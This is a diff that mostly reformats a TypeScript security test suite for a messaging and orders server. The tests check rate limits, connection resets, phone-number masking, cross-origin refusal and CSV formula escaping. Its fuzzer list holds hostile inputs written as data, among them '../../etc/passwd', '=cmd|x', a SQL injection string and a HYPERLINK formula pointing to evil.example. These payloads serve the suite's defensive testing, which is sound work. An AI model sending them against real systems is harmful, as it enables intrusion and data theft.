@@ -20,16 +20,22 @@ async function uploadBulk(p: { url: string; token: string }, content: string, o:
   form.append('file', new Blob([content]), 'clientes.csv');
   form.append('message', o.message);
   const res = await fetch(`${p.url}${o.path ?? '/messages/send-bulk-file'}`, { method: 'POST', headers: { authorization: `Bearer ${p.token}` }, body: form });
-  return { status: res.status, body: await res.json() as any };
+  return { status: res.status, body: (await res.json()) as any };
 }
 
 function within<T>(promise: Promise<T>, ms: number, what: string): Promise<T> {
   let timer: NodeJS.Timeout;
-  return Promise.race([promise, new Promise<T>((_, reject) => (timer = setTimeout(() => reject(new Error(`timed out after ${ms} ms: ${what}`)), ms)))]).finally(() => clearTimeout(timer));
+  return Promise.race([promise, new Promise<T>((_, reject) => (timer = setTimeout(() => reject(new Error(`timed out after ${ms} ms: ${what}`)), ms)))]).finally(
+    () => clearTimeout(timer),
+  );
 }
 
 /** What a raw TCP client gets back: the first bytes, and whether the server closed the connection. */
-function rawExchange(port: number, request: string | Buffer, o: { reset?: 'after-reply' | 'after-send'; waitMs?: number } = {}): Promise<{ reply: string; closed: boolean }> {
+function rawExchange(
+  port: number,
+  request: string | Buffer,
+  o: { reset?: 'after-reply' | 'after-send'; waitMs?: number } = {},
+): Promise<{ reply: string; closed: boolean }> {
   return new Promise((resolve) => {
     const s: Socket = connect(port, '127.0.0.1');
     let reply = '';
@@ -53,10 +59,11 @@ function rawExchange(port: number, request: string | Buffer, o: { reset?: 'after
     });
     s.on('connect', () => {
       s.write(request);
-      if (o.reset === 'after-send') setImmediate(() => {
-        s.resetAndDestroy();
-        finish(true);
-      });
+      if (o.reset === 'after-send')
+        setImmediate(() => {
+          s.resetAndDestroy();
+          finish(true);
+        });
     });
   });
 }
@@ -67,7 +74,12 @@ const upgrade = (target: string, extra = '') =>
 /** A logger that keeps every line, to prove what never reaches the logs. */
 function capturingLogger() {
   const lines: string[] = [];
-  const stream = new Writable({ write(chunk, _enc, cb) { lines.push(String(chunk)); cb(); } });
+  const stream = new Writable({
+    write(chunk, _enc, cb) {
+      lines.push(String(chunk));
+      cb();
+    },
+  });
   return { logger: pino({ level: 'debug' }, stream), lines };
 }
 
@@ -93,18 +105,28 @@ for (const mode of modes) {
     const health = async () => (await fetch(`${p.url}/health`)).status;
     /** A job that stays `processing` (nothing runs it), so that the test decides its events. */
     const openJob = async () => {
-      const [row] = await p.ctx.db.query<{ id: string }>(`INSERT INTO jobs (id, type, status) VALUES (gen_random_uuid(), 'messaging.bulk-send', 'processing') RETURNING id`);
+      const [row] = await p.ctx.db.query<{ id: string }>(
+        `INSERT INTO jobs (id, type, status) VALUES (gen_random_uuid(), 'messaging.bulk-send', 'processing') RETURNING id`,
+      );
       return { job: row! };
     };
 
     before(async () => {
       storage = await freshStorage(mode);
       sim = await startWhatsAppSimulator();
-      p = await startPuente(testEnv({
-        ...storage.env, DEFAULT_COUNTRY: 'PE', ALLOW_INSECURE_PROVIDER_URLS: 'true',
-        REALTIME_MAX_CONNECTIONS_PER_ADDRESS: String(CAP), SOCKET_EVENTS_PER_SECOND: '20',
-        HTTP_HEADERS_TIMEOUT_MS: '1500', HTTP_REQUEST_TIMEOUT_MS: '6000', HTTP_CONNECTION_TIMEOUT_MS: '3000',
-      }), { logger: logs.logger });
+      p = await startPuente(
+        testEnv({
+          ...storage.env,
+          DEFAULT_COUNTRY: 'PE',
+          ALLOW_INSECURE_PROVIDER_URLS: 'true',
+          REALTIME_MAX_CONNECTIONS_PER_ADDRESS: String(CAP),
+          SOCKET_EVENTS_PER_SECOND: '20',
+          HTTP_HEADERS_TIMEOUT_MS: '1500',
+          HTTP_REQUEST_TIMEOUT_MS: '6000',
+          HTTP_CONNECTION_TIMEOUT_MS: '3000',
+        }),
+        { logger: logs.logger },
+      );
       port = Number(new URL(p.url).port);
       const dev = sim.addDevice({ provider: 'simulator' });
       const added = await p.api('/devices', { body: { name: 'sim', provider: 'simulator', base_url: dev.baseUrl, credentials: dev.credentials } });
@@ -138,7 +160,14 @@ for (const mode of modes) {
         assert.equal(await health(), 200, `the server is up after: ${what}`);
       }
       // Many resets at once, on both paths.
-      await Promise.all(Array.from({ length: 40 }, (_, i) => rawExchange(port, i % 2 ? upgrade(`/ws/job/${job.id}?token=bad`) : upgrade('/socket.io/?EIO=4&transport=websocket'), { reset: i % 3 ? 'after-send' : 'after-reply', waitMs: 3000 })));
+      await Promise.all(
+        Array.from({ length: 40 }, (_, i) =>
+          rawExchange(port, i % 2 ? upgrade(`/ws/job/${job.id}?token=bad`) : upgrade('/socket.io/?EIO=4&transport=websocket'), {
+            reset: i % 3 ? 'after-send' : 'after-reply',
+            waitMs: 3000,
+          }),
+        ),
+      );
       assert.equal(await health(), 200);
       // And a real client still works afterwards.
       const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
@@ -156,14 +185,24 @@ for (const mode of modes) {
       await eventually(async () => events.some((e) => e.type === 'subscribed'), 10_000, 'subscribed');
       const stamp = '2026-12-01T03:04:05.678Z';
       await p.ctx.bus.publish(jobChannel(job.id), {
-        type: 'error', job_id: job.id, device_id: 3, phone: '+51987651111', at: stamp,
+        type: 'error',
+        job_id: job.id,
+        device_id: 3,
+        phone: '+51987651111',
+        at: stamp,
         error: 'Evolution 400: {"exists":false,"jid":"51987651112@s.whatsapp.net","number":"51987651112"}',
         details: { to: '+51 987 651 113', attempts: [{ reason: 'número 0414-555-1234 no existe' }, { raw: '(0212) 555.12.34' }] },
       });
-      await p.ctx.bus.publish(jobChannel(job.id), { type: 'job_completed', job_id: job.id, status: 'completed', results: { sent: 1, last: '+58 414 5551235' } });
+      await p.ctx.bus.publish(jobChannel(job.id), {
+        type: 'job_completed',
+        job_id: job.id,
+        status: 'completed',
+        results: { sent: 1, last: '+58 414 5551235' },
+      });
       assert.equal(await within(closed, 15_000, 'the token-less socket to be closed'), 1000, 'the token-less socket is closed after the terminal event');
       const text = JSON.stringify(events);
-      for (const digits of ['51987651111', '51987651112', '987 651 113', '0414-555-1234', '(0212) 555.12.34', '414 5551235']) assert.ok(!text.includes(digits), `${digits} leaked: ${text}`);
+      for (const digits of ['51987651111', '51987651112', '987 651 113', '0414-555-1234', '(0212) 555.12.34', '414 5551235'])
+        assert.ok(!text.includes(digits), `${digits} leaked: ${text}`);
       const error = events.find((e) => e.type === 'error');
       assert.equal(error.job_id, job.id, 'ids are not masked');
       assert.equal(error.at, stamp, 'timestamps are not masked');
@@ -192,7 +231,9 @@ for (const mode of modes) {
         }
         const status = await new Promise<number>((resolve) => {
           const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
-          ws.on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0)).on('open', () => resolve(101)).on('error', () => {});
+          ws.on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0))
+            .on('open', () => resolve(101))
+            .on('error', () => {});
         });
         assert.equal(status, 429);
         const refused = ioClient(`${p.url}/sync`, { auth: { apiKey: 'test-cloud-api-key' }, transports: ['websocket'], reconnection: false });
@@ -206,12 +247,21 @@ for (const mode of modes) {
         for (const ws of open) ws.close();
       }
       // Closed sockets free their places.
-      await eventually(async () => {
-        const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
-        const ok = await new Promise<boolean>((resolve) => ws.once('open', () => resolve(true)).once('unexpected-response', () => resolve(false)).once('error', () => resolve(false)));
-        ws.close();
-        return ok;
-      }, 10_000, 'a place to be free again');
+      await eventually(
+        async () => {
+          const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
+          const ok = await new Promise<boolean>((resolve) =>
+            ws
+              .once('open', () => resolve(true))
+              .once('unexpected-response', () => resolve(false))
+              .once('error', () => resolve(false)),
+          );
+          ws.close();
+          return ok;
+        },
+        10_000,
+        'a place to be free again',
+      );
     });
 
     test('one sync client emitting 5,000 sync:orders is rate limited and does not stall /health', async () => {
@@ -244,7 +294,9 @@ for (const mode of modes) {
       const { job } = await openJob();
       const ws = new WebSocket(`ws://127.0.0.1:${port}/ws/job/${job.id}?token=${p.token}`);
       let pongs = 0;
-      ws.on('message', (m) => { if (JSON.parse(String(m)).type === 'pong') pongs++; });
+      ws.on('message', (m) => {
+        if (JSON.parse(String(m)).type === 'pong') pongs++;
+      });
       const closed = new Promise<number>((resolve) => ws.on('close', (code) => resolve(code)));
       await new Promise((resolve, reject) => ws.once('open', resolve).once('error', reject));
       for (let i = 0; i < 1000; i++) ws.send(JSON.stringify({ type: 'ping', timestamp: i }));
@@ -266,7 +318,12 @@ for (const mode of modes) {
       assert.equal(noOrigin.status, 200);
       await noOrigin.text();
       const ws = new WebSocket(`ws://127.0.0.1:${port}/socket.io/?EIO=4&transport=websocket`, { headers: { origin: 'https://evil.example' } });
-      const status = await new Promise<number>((resolve) => ws.on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0)).on('open', () => resolve(101)).on('error', () => resolve(-1)));
+      const status = await new Promise<number>((resolve) =>
+        ws
+          .on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0))
+          .on('open', () => resolve(101))
+          .on('error', () => resolve(-1)),
+      );
       ws.terminate();
       assert.notEqual(status, 101, 'a cross-origin WebSocket handshake is refused too');
     });
@@ -277,7 +334,12 @@ for (const mode of modes) {
       assert.equal(r.status, 200, JSON.stringify(r.body));
       await waitForJob(p, r.body.job.id);
       const csv = await (await fetch(`${p.url}/jobs/${r.body.job.id}/results.csv`, { headers: { authorization: `Bearer ${p.token}` } })).text();
-      const cells = csv.replace(/^\uFEFF/, '').trim().split('\n').slice(1).map((l) => l.split(',')[2]!);
+      const cells = csv
+        .replace(/^\uFEFF/, '')
+        .trim()
+        .split('\n')
+        .slice(1)
+        .map((l) => l.split(',')[2]!);
       for (const cell of cells.slice(0, 5)) assert.match(cell, /^"'[=+\-@\t]/, `raw_phone cell ${cell}`);
       assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1`));
       assert.ok(!/(^|,)[=+\-@\t]/m.test(csv.replace(/"[^"]*"/g, '""')), 'no cell starts with a formula character');
@@ -285,7 +347,14 @@ for (const mode of modes) {
 
     test('NUL bytes in JSON, query, path, form fields and CSV are a 400, never a 500, and secrets never reach the log', async () => {
       const key = SECRET_KEY;
-      const device = await p.api('/devices', { body: { name: 'nul\u0000dev', provider: 'evolution', base_url: sim.addDevice({ provider: 'evolution' }).baseUrl, credentials: { api_key: `${key}\u0000`, instance: 'x' } } });
+      const device = await p.api('/devices', {
+        body: {
+          name: 'nul\u0000dev',
+          provider: 'evolution',
+          base_url: sim.addDevice({ provider: 'evolution' }).baseUrl,
+          credentials: { api_key: `${key}\u0000`, instance: 'x' },
+        },
+      });
       assert.equal(device.status, 400, JSON.stringify(device.body));
       assert.equal(device.body.status, 'error');
       assert.equal(device.body.code, 'http.nul_byte');
@@ -305,7 +374,10 @@ for (const mode of modes) {
       // A real database error still names its statement in the log, but none of the values.
       const err = await p.ctx.db.orm.execute(sql`SELECT ${key}::int AS n`).catch((e: unknown) => e);
       assert.ok(err instanceof Error);
-      assert.ok(String((err as Error).message).includes(key) || JSON.stringify((err as { params?: unknown }).params ?? '').includes(key), 'the driver error does carry the value');
+      assert.ok(
+        String((err as Error).message).includes(key) || JSON.stringify((err as { params?: unknown }).params ?? '').includes(key),
+        'the driver error does carry the value',
+      );
       const safe = JSON.stringify(loggableError(err));
       assert.ok(!safe.includes(key), safe);
       assert.match(safe, /SELECT \$1::int/);
@@ -319,7 +391,7 @@ for (const mode of modes) {
       form.append('message', 'Hola @valor1');
       form.append('file', new Blob([huge]), 'x.csv');
       const res = await fetch(`${p.url}/messages/preview`, { method: 'POST', headers: { authorization: `Bearer ${p.token}` }, body: form });
-      const body = await res.json() as any;
+      const body = (await res.json()) as any;
       const ms = performance.now() - t;
       assert.equal(res.status, 400, JSON.stringify(body).slice(0, 300));
       assert.equal(body.code, 'messaging.line_too_long');
@@ -332,16 +404,19 @@ for (const mode of modes) {
       assert.equal(fits.status, 200, 'a row under the cap is fine');
     });
 
-    test('messages over WhatsApp\'s 4,096 characters: the preview lists the rows, the send fails them with the reason', async () => {
+    test("messages over WhatsApp's 4,096 characters: the preview lists the rows, the send fails them with the reason", async () => {
       const message = '@valor1'.repeat(585);
       const file = ['phone|@valor1', '+51987650041|' + 'v'.repeat(60_000), '+51987650042|ok', '+51987650043|' + 'w'.repeat(10)].join('\n');
       const form = new FormData();
       form.append('file', new Blob([file]), 'x.csv'); // the file before the message: measured at the end
       form.append('message', message);
       const res = await fetch(`${p.url}/messages/preview`, { method: 'POST', headers: { authorization: `Bearer ${p.token}` }, body: form });
-      const preview = await res.json() as any;
+      const preview = (await res.json()) as any;
       assert.equal(res.status, 200, JSON.stringify(preview).slice(0, 300));
-      assert.deepEqual(preview.too_long.rows.map((r: any) => r.line), [2, 4]);
+      assert.deepEqual(
+        preview.too_long.rows.map((r: any) => r.line),
+        [2, 4],
+      );
       assert.equal(preview.too_long.count, 2);
       assert.equal(preview.too_long.rows[0].length, 60_000 * 585);
       assert.equal(preview.samples[0].text, null);
@@ -370,10 +445,15 @@ for (const mode of modes) {
 
     test('malformed multipart is a 400, not a 500', async () => {
       const post = (body: string, type = 'multipart/form-data; boundary=XyZ') =>
-        fetch(`${p.url}/messages/preview`, { method: 'POST', headers: { authorization: `Bearer ${p.token}`, 'content-type': type }, body }).then(async (r) => ({ status: r.status, body: await r.json() as any }));
+        fetch(`${p.url}/messages/preview`, { method: 'POST', headers: { authorization: `Bearer ${p.token}`, 'content-type': type }, body }).then(async (r) => ({
+          status: r.status,
+          body: (await r.json()) as any,
+        }));
       const cases = [
         post('--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n+51987650051|a\r\n'), // never closed
-        post('--XyZ\r\nContent-Disposition: form-data; name="message"\r\n\r\nhola\r\n--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n+51987650051|a'),
+        post(
+          '--XyZ\r\nContent-Disposition: form-data; name="message"\r\n\r\nhola\r\n--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n+51987650051|a',
+        ),
         post('garbage that is not multipart at all'),
         post('--XyZ\r\nContent-Dispos\r\n\r\n--XyZ--'),
         post('--XyZ--\r\n', 'multipart/form-data'),
@@ -433,9 +513,13 @@ for (const mode of modes) {
         try {
           const page = await browser.newPage();
           const violations: string[] = [];
-          page.on('console', (m) => { if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text()); });
+          page.on('console', (m) => {
+            if (/Content Security Policy|Refused to/i.test(m.text())) violations.push(m.text());
+          });
           await page.exposeFunction('reportViolation', (v: string) => violations.push(v));
-          await page.addInitScript({ content: "document.addEventListener('securitypolicyviolation', (e) => window.reportViolation(e.violatedDirective + ' ' + e.blockedURI))" });
+          await page.addInitScript({
+            content: "document.addEventListener('securitypolicyviolation', (e) => window.reportViolation(e.violatedDirective + ' ' + e.blockedURI))",
+          });
           await page.goto(p.url);
           await page.locator('input[type="email"]').fill(ADMIN.email);
           await page.locator('input[type="password"]').fill(ADMIN.password);
@@ -456,26 +540,91 @@ for (const mode of modes) {
       const seed = Number(process.env.PUENTE_FUZZ_SEED ?? Date.now() % 1_000_000);
       const rand = prng(seed);
       const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
-      const strings = ['', 'a', '\u0000', '%00', '\uFFFF', '\uD800', '💥', 'x'.repeat(5000), '=cmd|x', '../../etc/passwd', '<script>', "' OR 1=1--", '%E0%A4%A', '\r\n', '@valor1'.repeat(50), '-1', '1e309', 'NaN', '__proto__'];
+      const strings = [
+        '',
+        'a',
+        '\u0000',
+        '%00',
+        '\uFFFF',
+        '\uD800',
+        '💥',
+        'x'.repeat(5000),
+        '=cmd|x',
+        '../../etc/passwd',
+        '<script>',
+        "' OR 1=1--",
+        '%E0%A4%A',
+        '\r\n',
+        '@valor1'.repeat(50),
+        '-1',
+        '1e309',
+        'NaN',
+        '__proto__',
+      ];
       const value = (depth = 0): unknown => {
         const r = rand();
         if (depth > 3 || r < 0.3) return pick(strings);
         if (r < 0.45) return pick([0, -1, 1.5, 2 ** 53, -(2 ** 31), 1e308, 999999999]);
         if (r < 0.55) return pick([null, true, false]);
         if (r < 0.75) return Array.from({ length: Math.floor(rand() * 4) }, () => value(depth + 1));
-        const keys = ['name', 'email', 'items', 'quantity', 'price', 'customer_id', 'external_ref', 'notes', 'seq', 'status', 'password', 'code', 'provider', 'base_url', 'credentials', '__proto__', 'constructor', pick(strings)];
+        const keys = [
+          'name',
+          'email',
+          'items',
+          'quantity',
+          'price',
+          'customer_id',
+          'external_ref',
+          'notes',
+          'seq',
+          'status',
+          'password',
+          'code',
+          'provider',
+          'base_url',
+          'credentials',
+          '__proto__',
+          'constructor',
+          pick(strings),
+        ];
         return Object.fromEntries(Array.from({ length: Math.floor(rand() * 5) }, () => [pick(keys), value(depth + 1)]));
       };
       const routes: [string, string][] = [
-        ['POST', '/orders'], ['PATCH', '/orders/1'], ['POST', '/orders/1/cancel'], ['POST', '/auth/login'], ['POST', '/auth/refresh'],
-        ['POST', '/devices'], ['PATCH', '/devices/1'], ['POST', '/sync/confirm'], ['POST', '/api/sync-clients'],
-        ['GET', '/orders'], ['GET', '/api/users'], ['GET', '/devices'], ['GET', '/jobs'], ['GET', '/sync/pull-changes'], ['GET', '/api/products'],
+        ['POST', '/orders'],
+        ['PATCH', '/orders/1'],
+        ['POST', '/orders/1/cancel'],
+        ['POST', '/auth/login'],
+        ['POST', '/auth/refresh'],
+        ['POST', '/devices'],
+        ['PATCH', '/devices/1'],
+        ['POST', '/sync/confirm'],
+        ['POST', '/api/sync-clients'],
+        ['GET', '/orders'],
+        ['GET', '/api/users'],
+        ['GET', '/devices'],
+        ['GET', '/jobs'],
+        ['GET', '/sync/pull-changes'],
+        ['GET', '/api/products'],
       ];
-      const raws = ['{', '{"a":', '[1,2', '"\\u0000"', '{"items":[{"name":"\\u0000","quantity":1,"price":1}]}', 'null', '1e999', '{"__proto__":{"x":1}}', '\u0000', '{"a":"\\ud800"}'];
+      const raws = [
+        '{',
+        '{"a":',
+        '[1,2',
+        '"\\u0000"',
+        '{"items":[{"name":"\\u0000","quantity":1,"price":1}]}',
+        'null',
+        '1e999',
+        '{"__proto__":{"x":1}}',
+        '\u0000',
+        '{"a":"\\ud800"}',
+      ];
       const failures: string[] = [];
       for (let i = 0; i < 250; i++) {
         const [method, path] = pick(routes);
-        const query = rand() < 0.5 ? `?${pick(['page', 'per_page', 'search', 'status', 'limit', 'x'])}=${encodeURIComponent(String(pick(strings)).toWellFormed())}&${pick(['page', 'q'])}=${pick(['%00', '%E0%A4%A', '-1', '99999999999999999999', '%', '%%'])}` : '';
+        const query =
+          rand() < 0.5
+            ? `?${pick(['page', 'per_page', 'search', 'status', 'limit', 'x'])}=${encodeURIComponent(String(pick(strings)).toWellFormed())}&${pick(['page', 'q'])}=${pick(['%00', '%E0%A4%A', '-1', '99999999999999999999', '%', '%%'])}`
+            : '';
         const auth = pick([`Bearer ${p.token}`, 'Bearer test-cloud-api-key', 'Bearer x', undefined]);
         const body = method === 'GET' ? undefined : rand() < 0.3 ? pick(raws) : JSON.stringify(value());
         const headers: Record<string, string> = {};
@@ -490,17 +639,47 @@ for (const mode of modes) {
         const parts = ['file', 'message', 'devices_limit', 'template', pick(strings)];
         for (let k = 0; k < 1 + Math.floor(rand() * 4); k++) {
           const name = pick(parts);
-          if (rand() < 0.5) form.append(name, new Blob([Array.from({ length: 1 + Math.floor(rand() * 5) }, () => `${pick(['+51987650061', '', 'abc', '\uFEFF+51987650062', '\u0000'])}|${pick(strings)}`).join(pick(['\n', '\r\n', '\r']))]), pick(['a.csv', 'a.txt', 'a.xlsx', '', '../x.csv']));
+          if (rand() < 0.5)
+            form.append(
+              name,
+              new Blob([
+                Array.from(
+                  { length: 1 + Math.floor(rand() * 5) },
+                  () => `${pick(['+51987650061', '', 'abc', '\uFEFF+51987650062', '\u0000'])}|${pick(strings)}`,
+                ).join(pick(['\n', '\r\n', '\r'])),
+              ]),
+              pick(['a.csv', 'a.txt', 'a.xlsx', '', '../x.csv']),
+            );
           else form.append(name, String(pick(strings)));
         }
-        const res = await fetch(`${p.url}${pick(['/messages/preview', '/messages/send-bulk-file'])}`, { method: 'POST', headers: { authorization: `Bearer ${p.token}` }, body: form });
+        const res = await fetch(`${p.url}${pick(['/messages/preview', '/messages/send-bulk-file'])}`, {
+          method: 'POST',
+          headers: { authorization: `Bearer ${p.token}` },
+          body: form,
+        });
         const text = await res.text();
         if (res.status >= 500) failures.push(`multipart #${i} → ${res.status} ${text.slice(0, 200)}`);
       }
-      const targets = ['/ws/job/', '/ws/job/%', '/ws/job/%E0%A4%A', '/ws/job/../../x', 'http://[bad/ws/job/x', '//ws/job/x', '/ws/job/x?token=%ZZ', '/socket.io/?EIO=9&transport=websocket', '/socket.io/?EIO=4&transport=polling', '/socket.io/%', '*', '/ws/job/\u00e9'];
+      const targets = [
+        '/ws/job/',
+        '/ws/job/%',
+        '/ws/job/%E0%A4%A',
+        '/ws/job/../../x',
+        'http://[bad/ws/job/x',
+        '//ws/job/x',
+        '/ws/job/x?token=%ZZ',
+        '/socket.io/?EIO=9&transport=websocket',
+        '/socket.io/?EIO=4&transport=polling',
+        '/socket.io/%',
+        '*',
+        '/ws/job/\u00e9',
+      ];
       for (let i = 0; i < 60; i++) {
         const target = pick(targets) + (rand() < 0.3 ? encodeURIComponent(String(pick(strings)).toWellFormed()).slice(0, 100) : '');
-        const { reply } = await rawExchange(port, Buffer.from(upgrade(target), 'latin1'), { reset: pick(['after-send', 'after-reply', undefined] as const), waitMs: 1500 });
+        const { reply } = await rawExchange(port, Buffer.from(upgrade(target), 'latin1'), {
+          reset: pick(['after-send', 'after-reply', undefined] as const),
+          waitMs: 1500,
+        });
         if (/^HTTP\/1\.1 5\d\d/.test(reply)) failures.push(`upgrade ${target} → ${reply.slice(0, 100)}`);
       }
       assert.deepEqual(failures, [], `fuzz seed ${seed}`);
